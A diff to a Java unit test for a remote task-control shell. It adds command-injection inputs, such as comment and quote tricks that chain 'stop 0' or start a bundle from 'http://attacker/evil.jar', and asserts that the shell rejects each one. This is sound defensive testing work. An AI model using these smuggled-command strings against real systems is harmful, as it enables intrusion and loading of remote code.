@@ -116,7 +116,10 @@ class RemoteShellTest {
     void byDefaultOnlyASingleTaskCommandIsAccepted() throws IOException {
         start(false);
         for (String line : List.of("lb", "stop 0", "task:list; stop 0", "task:list | grep x", "task:list $(stop 0)",
-                "task:next \"$x\"", "task:next \"unclosed", "task:next 'a' ; stop 0", "task:next \"a\";stop 0")) {
+                "task:next \"$x\"", "task:next \"unclosed", "task:next 'a' ; stop 0", "task:next \"a\";stop 0",
+                // Gogo skips comments, quotes in them too: a quote there must not hide what follows
+                "task:list /* ' */ ; start http://attacker/evil.jar // '", "task:list // '; stop 0 '",
+                "task:list # '; stop 0 '", "task:next \"%(x=1)\"", "task:next %(x=1)")) {
             List<String> reply = exchange("AUTH " + token(), line);
             assertEquals("%%TASKCTL-EXIT 2%%", reply.get(reply.size() - 1), line);
         }
